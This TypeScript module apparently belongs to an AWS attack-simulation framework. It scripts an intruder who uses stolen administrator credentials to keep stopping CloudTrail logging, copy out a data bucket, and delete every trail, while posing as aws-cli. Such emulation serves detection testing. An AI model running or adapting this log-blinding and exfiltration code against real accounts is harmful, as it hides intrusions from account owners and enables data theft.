import { again, firstOpen } from "../adversary/again.ts";
import { grabEverything } from "../adversary/bucket-reader.ts";
import { once } from "../adversary/once.ts";
import type { Aws, Credentials } from "../kit/aws.ts";
import type { Behaviour, Stage } from "../kit/stage.ts";
import type { Facts } from "./facts.ts";

export const LAIR = { ip: "203.0.113.142", userAgent: "aws-cli/2.17.9 Python/3.11.8 Linux/6.6.15-amd64" };

/** Everything with which the administrator's name can be used, in the order in which it is tried. */
export type Loot = readonly Credentials[];

/** Keeps the account in the dark for as long as any of its credentials still may, and uses the dark. */
export function vandal(facts: Facts, loot: Loot): Behaviour[] {
  const anyOf =
    <T>(use: (aws: Aws) => Promise<T>) =>
    (stage: Stage): Promise<T> =>
      firstOpen(loot.map((credentials) => () => use(stage.intruder(credentials, LAIR))));
  return [
    again("stop-logging", 20, "StopLogging of every trail", anyOf(stopTrails)),
    grabEverything(240, facts.dataBucket, LAIR, () => loot.at(-1)!),
    once(
      "delete-trail",
      420,
      anyOf(async (aws) => {
        const trails = await homeTrails(aws);
        for (const Name of trails) await aws.cloudtrail.deleteTrail({ Name });
        return { gotThrough: true, what: `DeleteTrail of ${trails.join(", ")}` };
      }),
      "DeleteTrail of every trail",
    ),
  ];
}

async function stopTrails(aws: Aws): Promise<{ what: string }> {
  const trails = await homeTrails(aws);
  for (const Name of trails) await aws.cloudtrail.stopLogging({ Name });
  return { what: trails.length ? `StopLogging of ${trails.join(", ")}` : "No trail is left to stop" };
}

/** The trails that can be changed from here: those of this Region. */
const homeTrails = async (aws: Aws): Promise<string[]> =>
  ((await aws.cloudtrail.describeTrails({ includeShadowTrails: false })).trailList ?? []).map(
    (x) => x.TrailARN!,
  );
